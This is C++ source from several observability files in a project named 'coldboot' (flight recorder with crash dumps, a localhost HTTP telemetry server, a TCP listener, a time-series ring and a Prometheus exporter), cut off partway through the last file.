#include "obs/stats.hh"

namespace coldboot::obs
{

struct FlightRecorder::Ring
{
    /** Events ever written; slot = head % eventCapacity. */
    std::atomic<uint64_t> head{0};
    /** OS thread id of the claiming thread (0 when unknown). */
    std::atomic<uint64_t> tid{0};
    /** Encoded events, wordsPerEvent words each (see flight.hh). */
    std::atomic<uint64_t> words[eventCapacity * wordsPerEvent];
};

namespace
{

/** Set once when the singleton is constructed; the only path the
 *  signal handler uses to reach the recorder. */
std::atomic<FlightRecorder *> g_flight_instance{nullptr};

/** This thread's claimed ring (-1 unclaimed, -2 exhausted). File
 *  scope with constant init so reading it from the crash handler is
 *  just a TLS load, no lazy-init guard. */
constexpr int ringUnclaimed = -1;
constexpr int ringExhausted = -2;
thread_local int tl_ring_index = ringUnclaimed;

/** write(2) everything, retrying short writes and EINTR. */
void
writeAllFd(int fd, const char *p, size_t n)
{
    while (n > 0) {
        ssize_t w = ::write(fd, p, n);
        if (w < 0) {
            if (errno == EINTR)
                continue;
            return;
        }
        p += w;
        n -= static_cast<size_t>(w);
    }
}

/**
 * Buffered async-signal-safe output: stack buffer flushed with
 * write(2). Every put path is allocation- and lock-free.
 */
struct SigWriter
{
    explicit SigWriter(int fd_) : fd(fd_) {}

    ~SigWriter() { flush(); }

    void flush()
    {
        if (len > 0) {
            writeAllFd(fd, buf, len);
            len = 0;
        }
    }

    void putRaw(const char *s, size_t n)
    {
        while (n > 0) {
            if (len == sizeof(buf))
                flush();
            size_t take = std::min(n, sizeof(buf) - len);
            std::memcpy(buf + len, s, take);
            len += take;
            s += take;
            n -= take;
        }
    }

    void putStr(const char *s) { putRaw(s, std::strlen(s)); }

    void putUint(uint64_t v)
    {
        char tmp[24];
        size_t n = detail::flightFormatUint(v, tmp, sizeof(tmp));
        putRaw(tmp, n);
    }

    void putInt(int64_t v)
    {
        if (v < 0) {
            putRaw("-", 1);
            putUint(static_cast<uint64_t>(-v));
        } else {
            putUint(static_cast<uint64_t>(v));
        }
    }

    /** Quoted JSON string with control/quote/backslash escapes. */
    void putJsonStr(const char *s)
    {
        putRaw("\"", 1);
        for (; *s; ++s) {
            unsigned char c = static_cast<unsigned char>(*s);
            if (c == '"' || c == '\\') {
                char esc[2] = {'\\', static_cast<char>(c)};
                putRaw(esc, 2);
            } else if (c < 0x20) {
                static const char hex[] = "0123456789abcdef";
                char esc[6] = {'\\', 'u', '0', '0',
                               hex[(c >> 4) & 0xf], hex[c & 0xf]};
                putRaw(esc, 6);
            } else {
                putRaw(reinterpret_cast<const char *>(&c), 1);
            }
        }
        putRaw("\"", 1);
    }

    int fd;
    char buf[1024];
    size_t len = 0;
};

/** Decode one encoded event from its word span (atomic loads). */
FlightEvent
decodeEvent(const std::atomic<uint64_t> *w)
{
    FlightEvent ev;
    ev.ts_us = w[0].load(std::memory_order_relaxed);
    uint64_t kind = w[1].load(std::memory_order_relaxed);
    ev.kind = kind <= static_cast<uint64_t>(FlightKind::Fatal)
                  ? static_cast<FlightKind>(kind)
                  : FlightKind::None;
    ev.a = w[2].load(std::memory_order_relaxed);
    ev.b = w[3].load(std::memory_order_relaxed);
    char name[FlightRecorder::nameBytes + 1];
    for (size_t i = 0; i < FlightRecorder::nameBytes / 8; ++i) {
        uint64_t word = w[4 + i].load(std::memory_order_relaxed);
        std::memcpy(name + i * 8, &word, 8);
    }
    name[FlightRecorder::nameBytes] = '\0';
    ev.name = name;
    return ev;
}

/** Signal-safe variant: decode the name bytes into @p out (cap
 *  nameBytes + 1), NUL-terminated. */
void
decodeName(const std::atomic<uint64_t> *w, char *out)
{
    for (size_t i = 0; i < FlightRecorder::nameBytes / 8; ++i) {
        uint64_t word = w[4 + i].load(std::memory_order_relaxed);
        std::memcpy(out + i * 8, &word, 8);
    }
    out[FlightRecorder::nameBytes] = '\0';
}

void
flightLogHook(int level, const char *msg)
{
    if (FlightRecorder *fr = FlightRecorder::instance())
        fr->record(FlightKind::Log, msg,
                   static_cast<uint64_t>(level));
}

void
flightFatalHook(const char *msg)
{
    FlightRecorder *fr = FlightRecorder::instance();
    if (!fr)
        return;
    fr->record(FlightKind::Fatal, msg);
    fr->crashDump(0, "fatal");
}

extern "C" void
flightCrashSignalHandler(int sig)
{
    if (FlightRecorder *fr = FlightRecorder::instance()) {
        const char *reason = sig == SIGSEGV   ? "SIGSEGV"
                             : sig == SIGBUS  ? "SIGBUS"
                             : sig == SIGABRT ? "SIGABRT"
                                              : "signal";
        fr->crashDump(sig, reason);
    }
    // SA_RESETHAND restored the default disposition; die with the
    // original signal so exit status and core behavior are unchanged.
    raise(sig);
}

} // anonymous namespace

namespace detail
{

size_t
flightFormatUint(uint64_t v, char *buf, size_t cap)
{
    char tmp[20];
    size_t n = 0;
    do {
        tmp[n++] = static_cast<char>('0' + v % 10);
        v /= 10;
    } while (v > 0);
    if (n > cap)
        return 0;
    for (size_t i = 0; i < n; ++i)
        buf[i] = tmp[n - 1 - i];
    return n;
}

const char *
flightKindName(uint64_t kind)
{
    switch (kind) {
    case 0: return "none";
    case 1: return "span_begin";
    case 2: return "span_end";
    case 3: return "log";
    case 4: return "counter";
    case 5: return "fatal";
    default: return "unknown";
    }
}

} // namespace detail

FlightRecorder::FlightRecorder()
    : epoch(std::chrono::steady_clock::now())
{
}

FlightRecorder &
FlightRecorder::global()
{
    // Deliberately leaked: the crash handler may need the rings at
    // any point up to process death, including during static
    // destruction after main().
    static FlightRecorder *instance = [] {
        auto *fr = new FlightRecorder;
        g_flight_instance.store(fr, std::memory_order_release);
        return fr;
    }();
    return *instance;
}

FlightRecorder *
FlightRecorder::instance()
{
    return g_flight_instance.load(std::memory_order_acquire);
}

uint64_t
FlightRecorder::nowUs() const
{
    return static_cast<uint64_t>(
        std::chrono::duration_cast<std::chrono::microseconds>(
            std::chrono::steady_clock::now() - epoch)
            .count());
}

void
FlightRecorder::setEnabled(bool on)
{
    if (on && !rings.load(std::memory_order_acquire)) {
        std::lock_guard<std::mutex> lock(alloc_mu);
        if (!rings.load(std::memory_order_relaxed)) {
            rings_owned = std::make_unique<Ring[]>(maxRings);
            if (!snap_buf)
                snap_buf = std::make_unique<
                    std::atomic<unsigned char>[]>(statsSnapCapacity);
            rings.store(rings_owned.get(),
                        std::memory_order_release);
        }
    }
    is_enabled.store(on, std::memory_order_relaxed);
}

FlightRecorder::Ring *
FlightRecorder::myRing()
{
    Ring *all = rings.load(std::memory_order_acquire);
    if (!all)
        return nullptr;
    if (tl_ring_index >= 0)
        return &all[tl_ring_index];
    if (tl_ring_index == ringExhausted)
        return nullptr;
    uint32_t idx =
        rings_claimed.fetch_add(1, std::memory_order_relaxed);
    if (idx >= maxRings) {
        tl_ring_index = ringExhausted;
        return nullptr;
    }
    tl_ring_index = static_cast<int>(idx);
#ifdef __linux__
    all[idx].tid.store(
        static_cast<uint64_t>(syscall(SYS_gettid)),
        std::memory_order_relaxed);
#endif
    return &all[idx];
}

int
FlightRecorder::myRingIndex()
{
    if (enabled())
        myRing();
    return tl_ring_index >= 0 ? tl_ring_index : -1;
}

void
FlightRecorder::record(FlightKind kind, const char *name, uint64_t a,
                       uint64_t b)
{
    if (!is_enabled.load(std::memory_order_relaxed))
        return;
    Ring *ring = myRing();
    if (!ring) {
        dropped.fetch_add(1, std::memory_order_relaxed);
        return;
    }
    uint64_t h = ring->head.load(std::memory_order_relaxed);
    std::atomic<uint64_t> *w =
        &ring->words[(h % eventCapacity) * wordsPerEvent];
    w[0].store(nowUs(), std::memory_order_relaxed);
    w[1].store(static_cast<uint64_t>(kind),
               std::memory_order_relaxed);
    w[2].store(a, std::memory_order_relaxed);
    w[3].store(b, std::memory_order_relaxed);
    uint64_t packed[nameBytes / 8] = {};
    if (name != nullptr)
        std::memcpy(packed, name, strnlen(name, nameBytes));
    for (size_t i = 0; i < nameBytes / 8; ++i)
        w[4 + i].store(packed[i], std::memory_order_relaxed);
    ring->head.store(h + 1, std::memory_order_release);
}

size_t
FlightRecorder::ringsInUse() const
{
    return std::min<size_t>(
        rings_claimed.load(std::memory_order_acquire), maxRings);
}

void
FlightRecorder::installCrashHandler(const std::string &path)
{
    setEnabled(true);
    {
        std::lock_guard<std::mutex> lock(alloc_mu);
        std::snprintf(crash_path, sizeof(crash_path), "%s",
                      path.c_str());
    }
    updateStatsSnapshot();
    setLogHook(&flightLogHook);
    setFatalHook(&flightFatalHook);
    if (!handler_installed.exchange(true)) {
        struct sigaction sa;
        std::memset(&sa, 0, sizeof(sa));
        sa.sa_handler = &flightCrashSignalHandler;
        sigemptyset(&sa.sa_mask);
        // Reset to default on entry (so the re-raise terminates) and
        // leave the signal unblocked (so the re-raise delivers).
        sa.sa_flags = SA_RESETHAND | SA_NODEFER;
        sigaction(SIGSEGV, &sa, nullptr);
        sigaction(SIGBUS, &sa, nullptr);
        sigaction(SIGABRT, &sa, nullptr);
    }
}

std::string
FlightRecorder::crashDumpPath() const
{
    std::lock_guard<std::mutex> lock(alloc_mu);
    return crash_path;
}

void
FlightRecorder::updateStatsSnapshot()
{
    {
        std::lock_guard<std::mutex> lock(alloc_mu);
        if (!snap_buf)
            snap_buf = std::make_unique<std::atomic<unsigned char>[]>(
                statsSnapCapacity);
    }
    std::string json = StatRegistry::global().dumpJson();
    if (json.size() > statsSnapCapacity)
        json = "{\"error\": \"stats snapshot exceeds capacity\"}";

    std::lock_guard<std::mutex> lock(snap_writer_mu);
    snap_seq.fetch_add(1, std::memory_order_relaxed); // odd: writing
    std::atomic_thread_fence(std::memory_order_release);
    for (size_t i = 0; i < json.size(); ++i)
        snap_buf[i].store(static_cast<unsigned char>(json[i]),
                          std::memory_order_relaxed);
    snap_len.store(static_cast<uint32_t>(json.size()),
                   std::memory_order_relaxed);
    std::atomic_thread_fence(std::memory_order_release);
    snap_seq.fetch_add(1, std::memory_order_relaxed); // even: done
}

void
FlightRecorder::writePostMortem(int fd, int sig, const char *reason,
                                int crashing_ring) const
{
    SigWriter w(fd);
    w.putStr("{\"signal\": ");
    w.putInt(sig);
    w.putStr(", \"reason\": ");
    w.putJsonStr(reason);
    w.putStr(", \"crashing_ring\": ");
    w.putInt(crashing_ring);
    w.putStr(", \"dropped_events\": ");
    w.putUint(dropped.load(std::memory_order_relaxed));
    w.putStr(", \"threads\": [");

    Ring *all = rings.load(std::memory_order_acquire);
    uint32_t in_use = static_cast<uint32_t>(
        std::min<uint64_t>(
            rings_claimed.load(std::memory_order_acquire), maxRings));
    for (uint32_t r = 0; all != nullptr && r < in_use; ++r) {
        const Ring &ring = all[r];
        uint64_t head = ring.head.load(std::memory_order_acquire);
        if (r > 0)
            w.putStr(", ");
        w.putStr("{\"ring\": ");
        w.putUint(r);
        w.putStr(", \"tid\": ");
        w.putUint(ring.tid.load(std::memory_order_relaxed));
        w.putStr(", \"events_total\": ");
        w.putUint(head);
        w.putStr(", \"events\": [");
        uint64_t count = std::min<uint64_t>(head, eventCapacity);
        for (uint64_t k = head - count; k < head; ++k) {
            const std::atomic<uint64_t> *ew =
                &ring.words[(k % eventCapacity) * wordsPerEvent];
            if (k != head - count)
                w.putStr(", ");
            w.putStr("{\"ts_us\": ");
            w.putUint(ew[0].load(std::memory_order_relaxed));
            w.putStr(", \"kind\": ");
            w.putJsonStr(detail::flightKindName(
                ew[1].load(std::memory_order_relaxed)));
            w.putStr(", \"a\": ");
            w.putUint(ew[2].load(std::memory_order_relaxed));
            w.putStr(", \"b\": ");
            w.putUint(ew[3].load(std::memory_order_relaxed));
            w.putStr(", \"name\": ");
            char name[nameBytes + 1];
            decodeName(ew, name);
            w.putJsonStr(name);
            w.putStr("}");
        }
        w.putStr("]}");
    }
    w.putStr("], \"stats\": ");

    // Copy the pre-rendered stats JSON out through the seqlock. A
    // bounded number of attempts: if a writer keeps interfering (it
    // cannot, in a crash, but this code must not loop forever), fall
    // back to null.
    bool got_snap = false;
    static thread_local char snap_copy[statsSnapCapacity];
    uint32_t snap_copy_len = 0;
    const std::atomic<unsigned char> *snap = snap_buf.get();
    if (snap != nullptr) {
        for (int attempt = 0; attempt < 8 && !got_snap; ++attempt) {
            uint32_t s1 = snap_seq.load(std::memory_order_acquire);
            if (s1 & 1u)
                continue;
            uint32_t len =
                std::min<uint32_t>(snap_len.load(
                                       std::memory_order_relaxed),
                                   statsSnapCapacity);
            for (uint32_t i = 0; i < len; ++i)
                snap_copy[i] = static_cast<char>(
                    snap[i].load(std::memory_order_relaxed));
            std::atomic_thread_fence(std::memory_order_acquire);
            if (snap_seq.load(std::memory_order_relaxed) == s1) {
                got_snap = len > 0;
                snap_copy_len = len;
            }
        }
    }
    if (got_snap)
        w.putRaw(snap_copy, snap_copy_len);
    else
        w.putStr("null");
    w.putStr("}\n");
    w.flush();
}

void
FlightRecorder::crashDump(int sig, const char *reason)
{
    if (crash_path[0] == '\0')
        return;
    int fd = ::open(crash_path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd < 0)
        return;
    int crashing = tl_ring_index >= 0 ? tl_ring_index : -1;
    writePostMortem(fd, sig, reason, crashing);
    ::close(fd);

    SigWriter note(2);
    note.putStr("flight: post-mortem (");
    note.putStr(reason);
    note.putStr(") written to ");
    note.putStr(crash_path);
    note.putStr("\n");
}

std::string
FlightRecorder::dumpJson() const
{
    std::string out = "{\"signal\": 0, \"reason\": \"live\", ";
    out += "\"enabled\": ";
    out += enabled() ? "true" : "false";
    out += ", \"crashing_ring\": -1, \"dropped_events\": " +
           std::to_string(dropped.load(std::memory_order_relaxed)) +
           ", \"threads\": [";

    Ring *all = rings.load(std::memory_order_acquire);
    size_t in_use = ringsInUse();
    for (size_t r = 0; all != nullptr && r < in_use; ++r) {
        const Ring &ring = all[r];
        uint64_t head = ring.head.load(std::memory_order_acquire);
        if (r > 0)
            out += ", ";
        out += "{\"ring\": " + std::to_string(r) +
               ", \"tid\": " +
               std::to_string(
                   ring.tid.load(std::memory_order_relaxed)) +
               ", \"events_total\": " + std::to_string(head) +
               ", \"events\": [";
        uint64_t count = std::min<uint64_t>(head, eventCapacity);
        for (uint64_t k = head - count; k < head; ++k) {
            FlightEvent ev = decodeEvent(
                &ring.words[(k % eventCapacity) * wordsPerEvent]);
            if (k != head - count)
                out += ", ";
            out += "{\"ts_us\": " + std::to_string(ev.ts_us) +
                   ", \"kind\": \"" +
                   detail::flightKindName(
                       static_cast<uint64_t>(ev.kind)) +
                   "\", \"a\": " + std::to_string(ev.a) +
                   ", \"b\": " + std::to_string(ev.b) +
                   ", \"name\": \"" + json::escape(ev.name) + "\"}";
        }
        out += "]}";
    }
    out += "], \"stats\": ";

    // Same seqlock copy the post-mortem path uses, so /flight shows
    // exactly what a crash dump would embed (as of the last
    // updateStatsSnapshot).
    std::string snap_json;
    const std::atomic<unsigned char> *snap = snap_buf.get();
    if (snap != nullptr) {
        for (int attempt = 0; attempt < 64; ++attempt) {
            uint32_t s1 = snap_seq.load(std::memory_order_acquire);
            if (s1 & 1u)
                continue;
            uint32_t len =
                std::min<uint32_t>(snap_len.load(
                                       std::memory_order_relaxed),
                                   statsSnapCapacity);
            std::string candidate;
            candidate.resize(len);
            for (uint32_t i = 0; i < len; ++i)
                candidate[i] = static_cast<char>(
                    snap[i].load(std::memory_order_relaxed));
            std::atomic_thread_fence(std::memory_order_acquire);
            if (snap_seq.load(std::memory_order_relaxed) == s1) {
                snap_json = std::move(candidate);
                break;
            }
        }
    }
    out += snap_json.empty() ? "null" : snap_json;
    out += "}\n";
    return out;
}

std::vector<FlightEvent>
FlightRecorder::ringEvents(size_t ring_index) const
{
    std::vector<FlightEvent> out;
    Ring *all = rings.load(std::memory_order_acquire);
    if (all == nullptr || ring_index >= ringsInUse())
        return out;
    const Ring &ring = all[ring_index];
    uint64_t head = ring.head.load(std::memory_order_acquire);
    uint64_t count = std::min<uint64_t>(head, eventCapacity);
    out.reserve(count);
    for (uint64_t k = head - count; k < head; ++k)
        out.push_back(decodeEvent(
            &ring.words[(k % eventCapacity) * wordsPerEvent]));
    return out;
}

void
FlightRecorder::resetForTest()
{
    is_enabled.store(false, std::memory_order_relaxed);
    dropped.store(0, std::memory_order_relaxed);
    Ring *all = rings.load(std::memory_order_acquire);
    if (all == nullptr)
        return;
    size_t in_use = ringsInUse();
    for (size_t r = 0; r < in_use; ++r) {
        for (size_t i = 0; i < eventCapacity * wordsPerEvent; ++i)
            all[r].words[i].store(0, std::memory_order_relaxed);
        all[r].head.store(0, std::memory_order_release);
    }
}

} // namespace coldboot::obs
