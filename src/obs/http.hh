/**
 * @file
 * Dependency-free embedded HTTP/1.1 observability server - the
 * export surface of the live telemetry plane. Read-only by design:
 * every endpoint renders process state, none mutates it (the single
 * exception, `GET /quit`, only raises a flag the hosting tool polls).
 *
 * Endpoints:
 *   /healthz       200 "ok"                        (liveness probe)
 *   /metrics       Prometheus text exposition 0.0.4
 *   /stats         StatRegistry JSON dump
 *   /stats/series  sampled time-series history (JSON)
 *   /trace         Chrome trace (chrome://tracing / Perfetto)
 *   /progress      job progress / ETA (JSON)
 *   /quit          raises quitRequested() (test/linger hook)
 *
 * Binding defaults to 127.0.0.1 - telemetry for a key-extraction
 * attack is itself sensitive, so nothing listens beyond localhost
 * unless the operator says so explicitly. The accept loop blocks on
 * its own single-worker exec::ThreadPool and handles one connection
 * at a time; responses are small rendered strings sent with
 * `Connection: close`, which is plenty for scrape traffic and keeps
 * the server trivially auditable.
 */

#ifndef COLDBOOT_OBS_HTTP_HH
#define COLDBOOT_OBS_HTTP_HH

#include <atomic>
#include <cstdint>
#include <memory>
#include <string>

#include "obs/tcp_listener.hh"

namespace coldboot::exec
{
class ThreadPool;
} // namespace coldboot::exec

namespace coldboot::obs
{

class TelemetrySampler;

/**
 * The embedded server. start() binds and launches the accept loop;
 * stop() (or destruction) shuts the listening socket down and joins.
 */
class ObsHttpServer
{
  public:
    struct Options
    {
        ServeSpec bind;
        /** Optional sampler backing /metrics EWMA + /stats/series. */
        TelemetrySampler *sampler = nullptr;
    };

    explicit ObsHttpServer(Options opts);

    ObsHttpServer(const ObsHttpServer &) = delete;
    ObsHttpServer &operator=(const ObsHttpServer &) = delete;

    ~ObsHttpServer();

    /**
     * Bind, listen and launch the accept loop. Returns false (with
     * @p error set) when the socket cannot be bound.
     */
    bool start(std::string *error = nullptr);

    /** Shut down the listener and join the accept loop (idempotent). */
    void stop();

    /** Address actually bound (valid after a successful start()). */
    const std::string &address() const { return listener.address(); }

    /** Port actually bound - resolves `port 0` requests. */
    uint16_t port() const { return listener.port(); }

    /** Whether a `GET /quit` has been received. */
    bool quitRequested() const
    {
        return quit_flag.load(std::memory_order_acquire);
    }

    /** Requests served so far (any status). */
    uint64_t requestsServed() const
    {
        return requests.load(std::memory_order_relaxed);
    }

  private:
    void acceptLoop();
    void handleConnection(int fd);
    /** Route a request; fills body/content type, returns status. */
    int route(const std::string &method, const std::string &path,
              std::string &body, std::string &content_type);

    Options opts;
    TcpListener listener;
    bool running = false;
    std::atomic<bool> stopping{false};
    std::atomic<bool> quit_flag{false};
    std::atomic<uint64_t> requests{0};

    /** Dedicated single-worker pool hosting the accept loop. */
    std::unique_ptr<exec::ThreadPool> loop_pool;
};

} // namespace coldboot::obs

#endif // COLDBOOT_OBS_HTTP_HH
