#include "obs/tcp_listener.hh"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>

namespace coldboot::obs
{

bool
parseServeSpec(const std::string &text, ServeSpec *out,
               std::string *error)
{
    auto fail = [&](const std::string &why) {
        if (error != nullptr)
            *error = why;
        return false;
    };
    std::string addr = "127.0.0.1";
    std::string port_text = text;
    size_t colon = text.rfind(':');
    if (colon != std::string::npos) {
        addr = text.substr(0, colon);
        port_text = text.substr(colon + 1);
        if (addr.empty())
            return fail("empty address in '" + text + "'");
    }
    if (port_text.empty())
        return fail("empty port in '" + text + "'");
    unsigned long port = 0;
    for (char c : port_text) {
        if (c < '0' || c > '9')
            return fail("non-numeric port '" + port_text + "'");
        port = port * 10 + static_cast<unsigned long>(c - '0');
        if (port > 65535)
            return fail("port out of range '" + port_text + "'");
    }
    in_addr parsed{};
    if (::inet_pton(AF_INET, addr.c_str(), &parsed) != 1)
        return fail("bad IPv4 address '" + addr + "'");
    if (out != nullptr) {
        out->addr = addr;
        out->port = static_cast<uint16_t>(port);
    }
    return true;
}

TcpListener::~TcpListener()
{
    close();
}

bool
TcpListener::open(const ServeSpec &bind, std::string *error)
{
    auto fail = [&](const std::string &why, bool append_errno) {
        if (error != nullptr) {
            *error = why;
            if (append_errno)
                *error += std::string(": ") + std::strerror(errno);
        }
        close();
        return false;
    };

    if (fd_ >= 0)
        return fail("listener already open", false);

    fd_ = ::socket(AF_INET, SOCK_STREAM, 0);
    if (fd_ < 0)
        return fail("socket", true);
    int one = 1;
    ::setsockopt(fd_, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));

    sockaddr_in sa{};
    sa.sin_family = AF_INET;
    sa.sin_port = htons(bind.port);
    if (::inet_pton(AF_INET, bind.addr.c_str(), &sa.sin_addr) != 1)
        return fail("bad bind address '" + bind.addr + "'", false);
    if (::bind(fd_, reinterpret_cast<sockaddr *>(&sa), sizeof(sa)) !=
        0) {
        std::string endpoint =
            bind.addr + ":" + std::to_string(bind.port);
        // The one bind failure operators actually hit gets a message
        // they can act on without reading errno tables.
        if (errno == EADDRINUSE)
            return fail("address already in use: " + endpoint +
                            " (is another instance running?)",
                        false);
        return fail("bind " + endpoint, true);
    }
    if (::listen(fd_, 16) != 0)
        return fail("listen", true);

    sockaddr_in bound{};
    socklen_t len = sizeof(bound);
    if (::getsockname(fd_, reinterpret_cast<sockaddr *>(&bound),
                      &len) != 0)
        return fail("getsockname", true);
    char buf[INET_ADDRSTRLEN] = {0};
    ::inet_ntop(AF_INET, &bound.sin_addr, buf, sizeof(buf));
    bound_addr_ = buf;
    bound_port_ = ntohs(bound.sin_port);
    return true;
}

int
TcpListener::acceptConnection()
{
    while (true) {
        int fd = ::accept(fd_, nullptr, nullptr);
        if (fd >= 0)
            return fd;
        if (errno == EINTR)
            continue;
        // Listener shut down (or broke): report end-of-accepts.
        return -1;
    }
}

void
TcpListener::shutdownListener()
{
    if (fd_ >= 0)
        ::shutdown(fd_, SHUT_RDWR);
}

void
TcpListener::close()
{
    if (fd_ >= 0) {
        shutdownListener();
        ::close(fd_);
        fd_ = -1;
    }
}

} // namespace coldboot::obs
