#include "obs/timeseries.hh"

#include <algorithm>

#include "common/logging.hh"

namespace coldboot::obs
{

RingSeries::RingSeries(size_t cap)
    : ring(std::max<size_t>(1, cap))
{
}

void
RingSeries::push(const SeriesPoint &p)
{
    if (count < ring.size()) {
        ring[(head + count) % ring.size()] = p;
        ++count;
        return;
    }
    // Full: overwrite the oldest slot and advance the window.
    ring[head] = p;
    head = (head + 1) % ring.size();
}

const SeriesPoint &
RingSeries::at(size_t i) const
{
    cb_assert(i < count, "RingSeries::at(%zu) of %zu points", i,
              count);
    return ring[(head + i) % ring.size()];
}

const SeriesPoint &
RingSeries::latest() const
{
    cb_assert(count > 0, "RingSeries::latest() on an empty ring");
    return ring[(head + count - 1) % ring.size()];
}

std::vector<SeriesPoint>
RingSeries::points() const
{
    std::vector<SeriesPoint> out;
    out.reserve(count);
    for (size_t i = 0; i < count; ++i)
        out.push_back(at(i));
    return out;
}

void
RingSeries::clear()
{
    head = 0;
    count = 0;
}

} // namespace coldboot::obs
