/**
 * @file
 * Render-side of the live telemetry plane: Prometheus text
 * exposition (format version 0.0.4) rendered from a StatRegistry
 * snapshot plus optional sampler rates, JSON rendering of sampled
 * time-series history, and an exposition-format validator shared by
 * the tests, the `coldboot-promcheck` tool and the CI scrape leg.
 *
 * Pure functions over snapshots - no sockets, no threads, no clocks -
 * so every byte the HTTP endpoints serve is unit-testable without a
 * server, and rendering never blocks a sampler tick.
 */

#ifndef COLDBOOT_OBS_EXPORT_HH
#define COLDBOOT_OBS_EXPORT_HH

#include <string>
#include <string_view>
#include <vector>

#include "obs/stats.hh"
#include "obs/timeseries.hh"

namespace coldboot::obs
{

/**
 * A registry name as a Prometheus metric name: dots and any other
 * character outside [a-zA-Z0-9_:] become '_', and a leading digit is
 * prefixed with '_' ("attack.miner.blocks_scanned" ->
 * "attack_miner_blocks_scanned").
 */
std::string prometheusName(const std::string &name);

/**
 * Render registry stats as Prometheus text exposition:
 *  - counters  -> `# TYPE <name> counter` + value;
 *  - scalars   -> gauge;
 *  - rates     -> counter + a `<name>_per_second` gauge;
 *  - distributions -> histogram when bucket edges exist (cumulative
 *    `_bucket{le="..."}` series ending in `le="+Inf"`, plus `_sum` /
 *    `_count`), else `_count`/`_sum`/`_min`/`_max`/`_mean` gauges.
 *
 * When @p series is non-null, each entry additionally emits a
 * `<name>_ewma_per_second` gauge - the sampler's smoothed rate.
 */
std::string renderPrometheusText(
    const std::vector<StatSnapshot> &stats,
    const std::vector<SeriesSnapshot> *series = nullptr);

/**
 * Render sampled ring-buffer history as JSON:
 * {"series": [{"name", "kind", "ewma_rate",
 *              "points": [{"unix_ms","value","delta","rate"}, ...]},
 *             ...]}
 */
std::string renderSeriesJson(
    const std::vector<SeriesSnapshot> &series);

/**
 * Validate Prometheus text exposition line by line: `# HELP` /
 * `# TYPE` comments (known types only), metric lines of the form
 * `name[{labels}] value [timestamp]` with a legal metric name and a
 * parseable value (+Inf/-Inf/NaN included), and a TYPE comment never
 * repeated for one metric.
 *
 * @param error When non-null, receives "line N: why" on failure.
 * @return true when every line conforms.
 */
bool validatePrometheusText(std::string_view text,
                            std::string *error = nullptr);

} // namespace coldboot::obs

#endif // COLDBOOT_OBS_EXPORT_HH
