#include "obs/http.hh"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>

#include "common/logging.hh"
#include "exec/thread_pool.hh"
#include "obs/export.hh"
#include "obs/flight.hh"
#include "obs/progress.hh"
#include "obs/sampler.hh"
#include "obs/stats.hh"
#include "obs/trace.hh"

namespace coldboot::obs
{

namespace
{

/** Request headers larger than this are rejected outright. */
constexpr size_t maxRequestBytes = 8192;

const char *
statusText(int status)
{
    switch (status) {
      case 200: return "OK";
      case 400: return "Bad Request";
      case 404: return "Not Found";
      case 405: return "Method Not Allowed";
      default: return "Internal Server Error";
    }
}

/** send() the whole buffer, riding out EINTR and partial writes. */
void
sendAll(int fd, const std::string &data)
{
    size_t off = 0;
    while (off < data.size()) {
        ssize_t n = ::send(fd, data.data() + off, data.size() - off,
                           MSG_NOSIGNAL);
        if (n < 0) {
            if (errno == EINTR)
                continue;
            return; // peer went away; nothing to do for a scraper
        }
        off += static_cast<size_t>(n);
    }
}

} // anonymous namespace

ObsHttpServer::ObsHttpServer(Options opts_) : opts(std::move(opts_))
{
}

ObsHttpServer::~ObsHttpServer()
{
    stop();
}

bool
ObsHttpServer::start(std::string *error)
{
    if (running)
        return true;
    if (!listener.open(opts.bind, error))
        return false;

    stopping.store(false, std::memory_order_release);
    loop_pool = std::make_unique<exec::ThreadPool>(1);
    loop_pool->submit([this] { acceptLoop(); });
    running = true;
    return true;
}

void
ObsHttpServer::stop()
{
    if (!running)
        return;
    stopping.store(true, std::memory_order_release);
    // Unblock accept(): shut the listener down, then close it after
    // the loop joined.
    listener.shutdownListener();
    loop_pool.reset();
    listener.close();
    running = false;
}

void
ObsHttpServer::acceptLoop()
{
    while (!stopping.load(std::memory_order_acquire)) {
        int fd = listener.acceptConnection();
        if (fd < 0)
            return; // listener shut down (or broke)
        handleConnection(fd);
        ::close(fd);
    }
}

void
ObsHttpServer::handleConnection(int fd)
{
    // Read until the end of the request headers; the endpoints are
    // all GET so any body is ignored.
    std::string req;
    char buf[2048];
    while (req.find("\r\n\r\n") == std::string::npos &&
           req.size() < maxRequestBytes) {
        ssize_t n = ::recv(fd, buf, sizeof(buf), 0);
        if (n < 0 && errno == EINTR)
            continue;
        if (n <= 0)
            break;
        req.append(buf, static_cast<size_t>(n));
    }

    // Request line: METHOD SP PATH SP VERSION.
    std::string method, path;
    size_t eol = req.find("\r\n");
    std::string line =
        req.substr(0, eol == std::string::npos ? req.size() : eol);
    size_t sp1 = line.find(' ');
    size_t sp2 =
        sp1 == std::string::npos ? sp1 : line.find(' ', sp1 + 1);
    if (sp1 != std::string::npos && sp2 != std::string::npos) {
        method = line.substr(0, sp1);
        path = line.substr(sp1 + 1, sp2 - sp1 - 1);
        // Strip any query string; routing is path-only.
        if (size_t q = path.find('?'); q != std::string::npos)
            path.resize(q);
    }

    std::string body, content_type = "text/plain; charset=utf-8";
    int status = 400;
    if (!method.empty() && !path.empty())
        status = route(method, path, body, content_type);
    if (status != 200 && body.empty())
        body = std::string(statusText(status)) + "\n";

    std::string resp = "HTTP/1.1 " + std::to_string(status) + " " +
                       statusText(status) + "\r\n";
    resp += "Content-Type: " + content_type + "\r\n";
    resp += "Content-Length: " + std::to_string(body.size()) + "\r\n";
    resp += "Connection: close\r\n\r\n";
    resp += body;
    sendAll(fd, resp);
    requests.fetch_add(1, std::memory_order_relaxed);
}

int
ObsHttpServer::route(const std::string &method,
                     const std::string &path, std::string &body,
                     std::string &content_type)
{
    if (method != "GET" && method != "HEAD")
        return 405;

    if (path == "/healthz") {
        body = "ok\n";
        return 200;
    }
    if (path == "/metrics") {
        std::vector<SeriesSnapshot> series;
        const std::vector<SeriesSnapshot> *series_ptr = nullptr;
        if (opts.sampler != nullptr) {
            series = opts.sampler->seriesSnapshot();
            series_ptr = &series;
        }
        body = renderPrometheusText(
            StatRegistry::global().snapshotAll(), series_ptr);
        content_type = "text/plain; version=0.0.4; charset=utf-8";
        return 200;
    }
    if (path == "/stats") {
        body = StatRegistry::global().dumpJson();
